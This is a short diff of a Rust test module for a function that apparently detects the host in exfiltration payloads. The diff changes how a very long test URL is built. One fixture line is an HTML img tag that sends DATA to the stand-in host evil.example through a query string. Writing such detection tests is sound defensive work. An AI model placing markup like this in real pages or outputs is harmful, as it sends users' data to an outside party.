@@ -202,7 +202,8 @@ mod tests {
         }
         let image = format!("{}<img src=//evil.example/a.png?d={DATA}>", "href='".repeat(5_000));
         assert_eq!(carrier(&image).as_deref(), Some("evil.example"));
-        let parts: String = (0..30_000).map(|part| format!("/{part}a{part}")).collect();
+        let parts: String =
+            (0..30_000).flat_map(|part| ["/".to_owned(), part.to_string(), format!("a{part}")]).collect();
         assert_eq!(carrier(&format!("https://evil.example{parts}")).as_deref(), Some("evil.example"));
     }
 
